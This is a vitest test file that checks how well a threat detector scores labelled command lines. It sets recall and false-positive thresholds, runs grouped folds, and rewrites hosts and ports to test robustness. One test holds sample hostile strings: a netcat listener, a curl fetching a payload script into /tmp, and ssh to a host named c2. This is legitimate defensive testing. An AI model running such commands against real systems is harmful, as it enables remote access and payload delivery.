// The bars on labelled command lines (PT5), and the same bars when hosts, ports, paths, quotes and the order of letters
// are rewritten (PT7). The data are test data outside the repository: without them these tests are skipped.
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import type { Tier } from '../../../../detectors/process/threats/verdict/evidence.ts';
import { judgeLine } from '../../../../detectors/process/threats/verdict/judge.ts';

interface Row {
  id: string;
  cmdline: string;
  label: 'malicious' | 'benign';
  source: string;
  technique: string | null;
  category: string | null;
  scope: 'core' | 'extended' | 'ambiguous';
  hard: boolean;
}

const shared = process.env['ODYSSEY_SHARED'] ?? new URL('../../../../../shared', import.meta.url).pathname;
const file = `${shared}/data/threats/dev.jsonl`;
const isPresent = existsSync(file);
const rows: Row[] = isPresent
  ? readFileSync(file, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as Row)
      .filter(({ scope }) => scope === 'core')
  : [];

interface Figures {
  recall: number;
  macroRecall: number;
  worstCategory: number;
  falseRatio: number;
  falseRatioHard: number;
}

/** The figures of score.py, with a threat being any of the tiers given. */
function measure(
  given: readonly Row[],
  tiers: readonly Tier[],
  rewrite: (line: string) => string = (line) => line,
): Figures {
  const hit = (row: Row): boolean =>
    tiers.includes(judgeLine(row.label === 'malicious' ? rewrite(row.cmdline) : row.cmdline).tier);
  const share = (some: readonly Row[]): number => some.filter(hit).length / Math.max(1, some.length);
  const attacks = given.filter(({ label }) => label === 'malicious');
  const ordinary = given.filter(({ label }) => label === 'benign');
  const byCategory = Map.groupBy(attacks, ({ category }) => category);
  const recalls = [...byCategory.values()].map(share);
  return {
    recall: share(attacks),
    macroRecall: recalls.reduce((sum, one) => sum + one, 0) / Math.max(1, recalls.length),
    worstCategory: Math.min(...recalls),
    falseRatio: share(ordinary),
    falseRatioHard: share(ordinary.filter(({ hard }) => hard)),
  };
}

function expectMust(figures: Figures): void {
  expect(figures.recall).toBeGreaterThanOrEqual(0.65);
  expect(figures.macroRecall).toBeGreaterThanOrEqual(0.6);
  expect(figures.worstCategory).toBeGreaterThanOrEqual(0.35);
  expect(figures.falseRatio).toBeLessThanOrEqual(0.005);
  expect(figures.falseRatioHard).toBeLessThanOrEqual(0.03);
}

test.skipIf(!isPresent)('medium and critical together hold the bars (skipped without the labelled data)', () => {
  expectMust(measure(rows, ['critical', 'medium']));
});

test.skipIf(!isPresent)(
  'the critical tier alone pages rarely and finds enough (skipped without the labelled data)',
  () => {
    const { recall, falseRatio } = measure(rows, ['critical']);
    expect(recall).toBeGreaterThanOrEqual(0.4);
    expect(falseRatio).toBeLessThanOrEqual(0.0005);
  },
);

test.skipIf(!isPresent)(
  'the bars hold when everything that is no behaviour is rewritten (skipped without the labelled data)',
  () => {
    expectMust(measure(rows, ['critical', 'medium'], rewritten));
  },
);

const foldCount = 5;

/** Attacks of one source and technique stay together, and ordinary lines of one source and program. */
function foldOf({ source, technique, cmdline }: Row): number {
  const group = `${source} ${technique ?? cmdline.split(/\s/)[0]}`;
  return createHash('sha256').update(group).digest()[0]! % foldCount;
}

// The rules are not fitted a fold: this shows that no source or technique carries the result, not how new data would fare.
test.skipIf(!isPresent).each(Array.from({ length: foldCount }, (_, fold) => fold))(
  'fold %d of five, grouped by source and technique, holds the bars by itself (skipped without the labelled data)',
  (fold) => {
    const part = rows.filter((row) => foldOf(row) === fold);
    const { recall, falseRatio } = measure(part, ['critical', 'medium']);
    expect(recall).toBeGreaterThanOrEqual(0.65);
    expect(falseRatio).toBeLessThanOrEqual(0.005);
    expect(measure(part, ['critical']).recall).toBeGreaterThanOrEqual(0.4);
  },
);

test('rewriting changes hosts, ports, paths, quotes and the order of letters, and nothing else', () => {
  expect(rewritten("nc -lvnp 4444; curl 'http://10.1.2.3:8000/x' -o /tmp/payload.sh")).toBe(
    'nc -nvlp 24445; curl "http://198.18.77.3:28001/x" -o /tmp/q7payload.sh',
  );
  expect(rewritten('ssh a@c2.example.net')).toBe('ssh a@node9.other.example');
  expect(rewritten('tar --exclude x')).toBe('tar --exclude x');
});

/** The same attack by somebody else: other machines, other ports, other names, other habits of typing. */
function rewritten(line: string): string {
  return line
    .replace(/\b(?!127\.|0\.0\.0\.0)(\d{1,3})\.\d{1,3}\.\d{1,3}\.(\d{1,3})\b(?!\/\d)/g, '198.18.77.$2')
    .replace(/\b[a-z][\w-]*(?:\.[\w-]+)*\.?example\.(?:com|net|org)\b/g, 'node9.other.example')
    .replace(
      /(?<!chmod)((?:^|\s)|:)(\d{4,5})(?=$|[\s;/'"])/g,
      (_, before: string, port: string) => `${before}${20_001 + Number(port)}`,
    )
    .replace(/(\/(?:tmp|var\/tmp|dev\/shm|opt\/app)\/)(?=[\w.])(\.?)/g, '$1$2q7')
    .replace(/'([\w ./:=@,;-]+)'/g, '"$1"')
    .replace(/(\s-)(l)(v)(n)(?=p?\s)/g, '$1$4$3$2');
}
